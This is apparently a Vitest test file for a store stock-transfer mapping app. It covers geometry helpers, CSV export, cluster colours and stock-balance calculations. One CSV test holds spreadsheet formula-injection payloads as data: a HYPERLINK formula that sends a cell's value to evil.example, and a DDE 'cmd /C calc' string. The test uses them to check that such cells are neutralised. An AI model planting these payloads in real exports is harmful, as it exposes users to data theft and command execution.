import { describe, expect, it } from "vitest";
import type { StockRow, Store } from "../api/types";
import { store, transferLine } from "../test/factories";
import { clusterMeanBalances, planBalances } from "./balance";
import { FORMULA_TRIGGERS, neutralise, toCsv } from "./csv";
import { arrowHead, balanceRadius, clusterHull, haversineKm, routeWeight } from "./geometry";
import { CLUSTER_COLOURS, clusterColour, sortClusterLabels } from "./palette";

describe("arrowHead", () => {
  it("points its tip towards the destination, 60% along the line", () => {
    const [tip, left, right] = arrowHead({ x: 0, y: 0 }, { x: 100, y: 0 }, 10);
    expect(tip).toEqual({ x: 60, y: 0 });
    expect(left.x).toBeCloseTo(50);
    expect(right.x).toBeCloseTo(50);
    expect(Math.abs(left.y - right.y)).toBeCloseTo(12);
  });

  it("keeps the head within half of a short segment", () => {
    const [tip, left] = arrowHead({ x: 0, y: 0 }, { x: 0, y: 10 }, 40);
    expect(tip.y - left.y).toBeCloseTo(5);
  });
});

describe("scales", () => {
  it("widens lines with quantity, from 2 px to 9 px", () => {
    expect(routeWeight(0, 100)).toBe(2);
    expect(routeWeight(100, 100)).toBe(9);
    expect(routeWeight(25, 100)).toBeCloseTo(5.5);
  });

  it("sizes balanced stores smallest", () => {
    expect(balanceRadius(0, 50)).toBe(4);
    expect(balanceRadius(50, 50)).toBe(16);
  });
});

describe("clusterHull", () => {
  it("returns the outer corners and drops inner points", () => {
    const hull = clusterHull([
      [0, 0],
      [0, 2],
      [2, 2],
      [2, 0],
      [1, 1],
    ]);
    expect(hull).toHaveLength(4);
    expect(hull).not.toContainEqual([1, 1]);
  });

  it("gives no hull for two stores, so a ring is drawn", () => {
    expect(
      clusterHull([
        [0, 0],
        [1, 1],
      ]),
    ).toBeNull();
  });
});

describe("haversineKm", () => {
  it("measures one degree of latitude as about 111.2 km", () => {
    expect(haversineKm([0, 0], [1, 0])).toBeCloseTo(111.195, 2);
  });
});

describe("toCsv", () => {
  it("quotes commas, quotes and newlines", () => {
    const text = toCsv(
      [
        { a: 'say "hi"', b: "x,y" },
        { a: "plain", b: null },
      ],
      ["a", "b"],
    );
    expect(text).toBe('a,b\r\n"say ""hi""","x,y"\r\nplain,\r\n');
  });

  it("neutralises text cells a spreadsheet would run as formulas, not negative numbers", () => {
    const text = toCsv(
      [
        { id: '=HYPERLINK("http://evil.example/?"&A1,"x")', q: -3 },
        { id: "+cmd|' /C calc'!A0", q: 4 },
        { id: "-2+3", q: -0.5 },
        { id: "@SUM(1+1)", q: 0 },
        { id: "\tT", q: 1 },
        { id: "\rR", q: 2 },
        { id: "S1", q: -7 },
      ],
      ["id", "q"],
    );
    expect(text.split("\r\n")).toEqual([
      "id,q",
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-3',
      "\"'+cmd|' /C calc'!A0\",4",
      '"\'-2+3",-0.5',
      '"\'@SUM(1+1)",0',
      '"\'\tT",1',
      '"\'\rR",2',
      "S1,-7",
      "",
    ]);
    for (const trigger of FORMULA_TRIGGERS) expect(neutralise(`${trigger}x`)).toBe(`'${trigger}x`);
    expect(neutralise("a=b")).toBe("a=b");
  });
});

describe("palette", () => {
  it("orders numeric cluster labels numerically", () => {
    expect(sortClusterLabels(["10", "2", "0", "2"])).toEqual(["0", "2", "10"]);
    expect(sortClusterLabels(["north", "east"])).toEqual(["east", "north"]);
  });

  it("gives each of the first clusters its own hue", () => {
    const labels = ["0", "1", "2"];
    expect(new Set(labels.map((c) => clusterColour(c, labels))).size).toBe(3);
    expect(clusterColour("0", labels)).toBe(CLUSTER_COLOURS[0]);
  });
});

describe("balances", () => {
  const stores: Store[] = [store("501", 0, 0, "0"), store("502", 0, 0, "0"), store("503", 0, 0, "1")];
  const stock: StockRow[] = [
    { store_id: "501", product_id: "P", on_hand: 107, in_transit: 0 },
    { store_id: "502", product_id: "P", on_hand: 50, in_transit: 3 },
    { store_id: "503", product_id: "P", on_hand: 9, in_transit: 0 },
  ];

  it("compares each store with its cluster's mean (SPEC section 3)", () => {
    const b = clusterMeanBalances(stores, stock);
    expect(b.get("501")).toMatchObject({ kind: "surplus", magnitude: 28, target: 78.5 });
    expect(b.get("502")).toMatchObject({ kind: "deficit", magnitude: 28, in_transit: 3 });
    expect(b.get("503")).toMatchObject({ kind: "balanced", magnitude: 0 });
  });

  it("reads a plan: senders in surplus, need as received plus ordered", () => {
    const b = planBalances(
      stock,
      [transferLine(1, "P", "501", "502", 20), transferLine(2, "P", "501", "503", 5)],
      [{ product_id: "P", store_id: "502", quantity: 4, reason: "no-source" }],
    );
    expect(b.get("501")).toMatchObject({ kind: "surplus", magnitude: 25, target: null });
    expect(b.get("502")).toMatchObject({ kind: "deficit", magnitude: 24 });
    expect(b.get("503")).toMatchObject({ kind: "deficit", magnitude: 5 });
  });
});
